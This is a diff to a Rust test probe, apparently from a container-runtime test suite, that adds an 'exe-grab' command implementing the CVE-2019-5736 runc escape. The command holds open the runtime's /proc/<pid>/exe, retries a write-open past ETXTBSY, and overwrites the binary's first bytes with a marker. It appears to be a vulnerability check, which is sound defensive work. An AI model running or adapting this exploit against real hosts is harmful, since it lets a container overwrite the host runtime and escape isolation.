@@ -461,6 +461,66 @@ fn run(cmd: &str, args: &[String]) -> i32 {
             let res = if r == 0 { "ok".to_string() } else { format!("errno={}", errno_of(&std::io::Error::last_os_error())) };
             out(&format!("mknod:{path}"), res);
         }
+        "exe-grab" => {
+            // The CVE-2019-5736 attacker: until the file STOP exists, keep open every
+            // /proc/<pid>/exe that is not one of the container's own programs (so: the
+            // runtime's binary, however it is shown), then for up to WRITE seconds try
+            // to reopen one for writing (ETXTBSY while a copy still runs) and overwrite
+            // its first bytes.
+            let stop = args.first().cloned().unwrap_or_default();
+            let write_secs = args.get(1).and_then(|a| a.parse::<f64>().ok()).unwrap_or(0.0);
+            let own: Vec<(u64, u64)> = ["/probe", "/bin/busybox", "/bin/sh"]
+                .iter()
+                .filter_map(|p| std::fs::metadata(p).ok().map(|m| (m.dev(), m.ino())))
+                .collect();
+            let me = std::process::id().to_string();
+            let give_up = std::time::Instant::now() + std::time::Duration::from_secs(120);
+            let mut seen = std::collections::BTreeSet::new();
+            let mut held: Vec<std::fs::File> = Vec::new();
+            while !std::path::Path::new(&stop).exists() && std::time::Instant::now() < give_up {
+                let Ok(d) = std::fs::read_dir("/proc") else { break };
+                for e in d.flatten() {
+                    let name = e.file_name().to_string_lossy().to_string();
+                    if !name.bytes().all(|b| b.is_ascii_digit()) || name == me || seen.contains(&name) {
+                        continue;
+                    }
+                    if let Ok(f) = std::fs::File::open(format!("/proc/{name}/exe")) {
+                        seen.insert(name);
+                        if f.metadata().map(|m| !own.contains(&(m.dev(), m.ino()))).unwrap_or(false) {
+                            held.push(f);
+                            out("exe-held", held.len());
+                            let _ = std::io::stdout().flush();
+                        }
+                    }
+                }
+            }
+            out("exe-grabbed", held.len());
+            let until = std::time::Instant::now() + std::time::Duration::from_secs_f64(write_secs);
+            let mut result = String::from("none");
+            'tries: while !held.is_empty() {
+                for f in &held {
+                    use std::os::fd::AsRawFd;
+                    let link = format!("/proc/self/fd/{}", f.as_raw_fd());
+                    match std::fs::OpenOptions::new().write(true).open(&link) {
+                        Ok(w) => {
+                            use std::os::unix::fs::FileExt;
+                            result = match w.write_at(b"PWNED", 0) {
+                                Ok(_) => "ok".to_string(),
+                                Err(e) => format!("errno={}", errno_of(&e)),
+                            };
+                            break 'tries;
+                        }
+                        Err(e) if errno_of(&e) == 26 && std::time::Instant::now() < until => {} // ETXTBSY
+                        Err(e) => {
+                            result = format!("errno={}", errno_of(&e));
+                            break 'tries;
+                        }
+                    }
+                }
+                std::thread::sleep(std::time::Duration::from_millis(5));
+            }
+            out("exe-write", result);
+        }
         "killself" => {
             let _ = std::io::stdout().flush();
             let sig: i32 = args.first().and_then(|s| s.parse().ok()).unwrap_or(9);
